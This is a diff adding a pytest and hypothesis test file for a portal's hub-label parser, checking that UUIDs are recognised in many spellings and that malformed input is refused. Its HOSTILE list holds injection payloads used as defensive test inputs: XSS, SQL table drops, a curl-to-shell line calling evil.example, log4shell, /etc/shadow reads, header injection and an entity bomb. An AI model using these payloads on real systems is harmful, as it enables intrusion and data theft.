@@ -1,0 +1,254 @@
+"""What the portal understands of a label, and what it refuses."""
+
+import json
+import time
+import unicodedata
+from urllib.parse import quote
+from uuid import UUID
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from portal.hubs.display import label_wording
+from portal.hubs.labels import parse
+
+HUB = UUID("3f2a9c1e-7b54-4d0e-9a61-0c3d77f01a2b")
+OTHER = UUID("b4c1d2e3-0f9a-4b8c-8d7e-6f5a4b3c2d1e")
+TEXT = str(HUB)
+GROUPS = TEXT.split("-")
+
+UNDERSTOOD = {
+    "as printed": TEXT,
+    "capitals": TEXT.upper(),
+    "no hyphens": HUB.hex,
+    "a line break at the end": f"{TEXT}\r\n",
+    "broken over two lines": f"{TEXT[:19]}\n{TEXT[19:]}",
+    "spaces for hyphens": " ".join(GROUPS),
+    "hyphens with spaces around them": " - ".join(GROUPS),
+    "some hyphens forgotten": f"{GROUPS[0]}-{GROUPS[1]}{GROUPS[2]}{GROUPS[3]}-{GROUPS[4]}",
+    "fours": " ".join(HUB.hex[i : i + 4] for i in range(0, 32, 4)),
+    "one character at a time": " ".join(HUB.hex),
+    "en dashes": "\u2013".join(GROUPS),
+    "non-breaking hyphens": "\u2011".join(GROUPS),
+    "minus signs": "\u2212".join(GROUPS),
+    "soft hyphens": "\u00ad".join(GROUPS),
+    "underscores": "_".join(GROUPS),
+    "a German keyboard": "ß".join(GROUPS),
+    "an Italian keyboard": "'".join(GROUPS),
+    "a Swedish keyboard": "+".join(GROUPS),
+    "a Greek keyboard": TEXT.translate(str.maketrans("abcdef", "αβψδεφ")),
+    "a Greek keyboard's capitals": TEXT.upper().translate(str.maketrans("ABCDEF", "ΑΒΨΔΕΦ")),
+    "non-breaking spaces": "\u00a0".join(GROUPS),
+    "zero-width characters": "\u200b".join(TEXT),
+    "a byte order mark": f"\ufeff{TEXT}",
+    "full width": "".join(chr(ord(c) + 0xFEE0) for c in TEXT),
+    "mathematical digits": TEXT.replace("1", "\U0001d7cf").replace("0", "\U0001d7d8"),
+    "braces": "{" + TEXT.upper() + "}",
+    "a URN": f"urn:uuid:{TEXT}",
+    "a URN in capitals": f"URN:UUID:{TEXT.upper()}",
+    "JSON": json.dumps({"hubId": TEXT}),
+    "JSON with more in it": json.dumps({"model": "SPK-Hub 2", "hubId": TEXT, "serial": "00417"}),
+    "a URL's path": f"https://spkey.example/hubs/{TEXT}/claim",
+    "a URL's query": f"https://spkey.example/?v=2&id={HUB.hex}&lang=el",
+    "a URL's fragment": f"spkey://open#{TEXT}",
+    "percent-encoded": f"https://spkey.example/?q={quote(json.dumps({'hubId': TEXT}))}",
+    "percent-encoded hyphens": TEXT.replace("-", "%2D"),
+    "a link in a link": "https://a.example/?to="
+    + quote(f"https://b.example/?id=%2F{TEXT}", safe=""),
+    "words around it": f"Hub 2 ({TEXT}), serial 00417",
+    "a name joined by a hyphen": f"hub-{TEXT}",
+    "the same id twice": f"{TEXT} {HUB.hex.upper()}",
+    "digits only": "12345678-1234-1234-1234-123456789012",
+}
+
+NOT_AN_ID = {
+    "words": "Have a nice day",
+    "a serial number": "SN 00417",
+    "a digit too few": TEXT[:-1],
+    "a digit too many": TEXT + "0",
+    "a longer run": "f" * 33,
+    "a fingerprint": "0123456789abcdef" * 4,
+    "a digit before": "1" + HUB.hex,
+    "a letter after": HUB.hex + "z",
+    "a letter O for a zero": TEXT.replace("0", "O"),
+    "a Cyrillic letter in it": TEXT.replace("a", "\u0430"),
+    "Arabic digits": TEXT.replace("3", "٣"),
+    "groups of other lengths among words": "hub 3f2a9c1-e7b54-4d0e-9a61-0c3d77f01a2b",
+    "a date and a number that add up to 32": "Lot 20260820 507f1f77bcf86cd799439011",
+    "a group missing": "-".join(GROUPS[:4]),
+    "halves in other words": f"{HUB.hex[:16]} and {HUB.hex[16:]}",
+}
+
+HOSTILE = {
+    "script": "<script>alert(document.cookie)</script>",
+    "image": "<img src=x onerror=alert(1)>",
+    "javascript": "javascript:alert(1)//",
+    "data": "data:text/html,<script>alert(1)</script>",
+    "htmx get": '<a hx-get="https://evil.example/" hx-trigger="load">x</a>',
+    "htmx on": '" hx-on:load="alert(1)" x="',
+    "template": "{{ settings.SECRET_KEY }}{% debug %}",
+    "SQL": "'; DROP TABLE hubs_hub; --",
+    "SQL union": "0' UNION SELECT key FROM orgs_apicredential--",
+    "shell": "$(curl https://evil.example/`id`) | sh",
+    "log4shell": "${jndi:ldap://evil.example/a}",
+    "path": "../../../../etc/passwd",
+    "encoded path": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "header": "x\r\nX-API-Key: stolen\r\n\r\n",
+    "nul": "\x00\x00\x00",
+    "bidi": "\u202e\u2066evil\u2069\u202c",
+    "entities": '<!DOCTYPE l [<!ENTITY a "&b;&b;"><!ENTITY b "&c;&c;">]><l>&a;</l>',
+    "spreadsheet": '=HYPERLINK("https://evil.example/";"x")',
+    "format string": "%s%s%n%(password)s{0.__class__}",
+    "prototype": '{"__proto__": {"hubId": true}}',
+    "deep JSON": "[" * 256,
+    "private file": "file:///etc/shadow",
+    "wifi": "WIFI:S:evil;T:WPA;P:secret;;",
+    "surrogate": "\ud800\udfff",
+}
+
+
+@pytest.mark.parametrize("text", UNDERSTOOD.values(), ids=UNDERSTOOD)
+def test_an_id_is_found_however_it_is_written(text):
+    expected = UUID("12345678123412341234123456789012") if text.startswith("1234") else HUB
+    assert parse.parse(text) == expected
+
+
+def test_the_result_reads_as_the_canonical_form():
+    assert str(parse.parse(HUB.hex.upper())) == TEXT
+
+
+@pytest.mark.parametrize("text", NOT_AN_ID.values(), ids=NOT_AN_ID)
+def test_what_only_resembles_an_id_is_refused(text):
+    problem = problem_with(text)
+    assert problem.kind == "nothing"
+
+
+@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_label_alone_is_refused_and_shown_harmlessly(payload):
+    problem = problem_with(payload)
+    assert_harmless(problem.read)
+    assert payload not in str(problem)
+
+
+@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_label_with_an_id_gives_the_id_and_nothing_else(payload):
+    assert parse.parse(f"{payload[:200]} {TEXT}") == HUB
+
+
+def test_two_different_ids_are_refused():
+    problem = problem_with(f"{TEXT}\n{OTHER}")
+    assert problem.kind == "several"
+    assert "two different" in label_wording.sentence(problem)
+
+
+@pytest.mark.parametrize("text", ["", " \t\r\n", "\u200b\ufeff\u202e", "\x00"])
+def test_text_without_anything_to_see_counts_as_empty(text):
+    problem = problem_with(text)
+    assert problem.kind == "empty"
+
+
+def test_256_characters_are_read_and_257_refused():
+    assert parse.parse(TEXT.rjust(256)) == HUB
+    problem = problem_with(TEXT.rjust(257))
+    assert problem.kind == "too_long"
+
+
+def test_ten_kilobytes_are_refused_and_not_shown_whole():
+    problem = problem_with("A" * 10_240)
+    assert problem.kind == "too_long"
+    assert len(problem.read) <= parse.SHOWN + 1
+    assert problem.read.endswith("…")
+
+
+def test_someone_who_types_is_told_how_many_characters_there_are():
+    problem = problem_with(TEXT[:-1])
+    assert "This has 31." in label_wording.sentence(problem)
+
+
+def test_each_problem_has_its_own_sentence():
+    texts = ["", "x" * 300, "no id", f"{TEXT} {OTHER}"]
+    problems = [problem_with(text) for text in texts]
+    assert [problem.kind for problem in problems] == ["empty", "too_long", "nothing", "several"]
+    assert len({label_wording.sentence(problem) for problem in problems}) == 4
+
+
+def test_what_was_read_is_shown_with_its_hidden_characters_spelt_out():
+    assert parse.visible(" a\x00b\u202ec\u200bd\ne ") == "a[U+0000]b[U+202E]c[U+200B]d[U+000A]e"
+
+
+def test_what_was_read_is_left_as_it_is_when_it_can_be_seen():
+    assert parse.visible("Größe 4 · Ελλάδα <b>") == "Größe 4 · Ελλάδα <b>"
+
+
+@given(st.uuids(), st.sampled_from(["", "-", " ", "\u2013", " - "]), st.booleans())
+def test_any_uuid_is_understood_with_any_gap_between_its_groups(hub, gap, capitals):
+    text = gap.join(str(hub).split("-"))
+    assert parse.parse(text.upper() if capitals else text) == hub
+
+
+@given(st.uuids(), st.text(max_size=100), st.text(max_size=100))
+def test_an_id_among_noise_is_found_or_refused_but_never_changed(hub, before, after):
+    try:
+        found = parse.parse(f"{before} {hub} {after}")
+    except parse.LabelProblem:
+        return
+    assert found == hub
+
+
+@given(st.uuids(), st.text("ghijklmnopqrstuvwxyzGHIJ<>&/:=?.;,\"'() ", max_size=100))
+def test_noise_that_holds_no_digits_never_hides_an_id(hub, noise):
+    assert parse.parse(f"{noise} {hub} {noise}") == hub
+
+
+@given(st.uuids(), st.uuids())
+def test_two_ids_are_one_only_when_they_are_equal(one, other):
+    if one == other:
+        assert parse.parse(f"{one} {other}") == one
+    else:
+        with pytest.raises(parse.LabelProblem):
+            parse.parse(f"{one} {other}")
+
+
+@given(st.text(alphabet="0123456789abcdefABCDEF", min_size=1, max_size=120))
+def test_a_run_of_hexadecimal_digits_is_an_id_only_at_its_exact_length(run):
+    if len(run) == 32:
+        assert parse.parse(run).hex == run.lower()
+    else:
+        with pytest.raises(parse.LabelProblem):
+            parse.parse(run)
+
+
+@given(st.text(max_size=400))
+def test_any_text_is_answered_with_an_id_or_a_harmless_problem(text):
+    try:
+        found = parse.parse(text)
+    except parse.LabelProblem as refused:
+        problem = refused
+    else:
+        assert isinstance(found, UUID)
+        return
+    assert_harmless(problem.read)
+    assert label_wording.sentence(problem)
+
+
+@pytest.mark.parametrize("tease", ["a", "a-", "ab ", "%2561", "12345678-1234-", f"{HUB.hex}f"])
+def test_text_that_is_almost_an_id_throughout_is_answered_at_once(tease):
+    # Of the processor, which others may keep busy.
+    started = time.thread_time()
+    problem_with((tease * parse.LONGEST)[: parse.LONGEST])
+    assert time.thread_time() - started < 0.1
+
+
+def problem_with(text: str) -> parse.LabelProblem:
+    with pytest.raises(parse.LabelProblem) as caught:
+        parse.parse(text)
+    return caught.value
+
+
+def assert_harmless(shown: str) -> None:
+    """One short line in which every character can be seen and none turns the others round."""
+    assert len(shown) <= parse.SHOWN + 1
+    assert not {unicodedata.category(character) for character in shown} & {
+        "Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp",
+    }  # fmt: skip
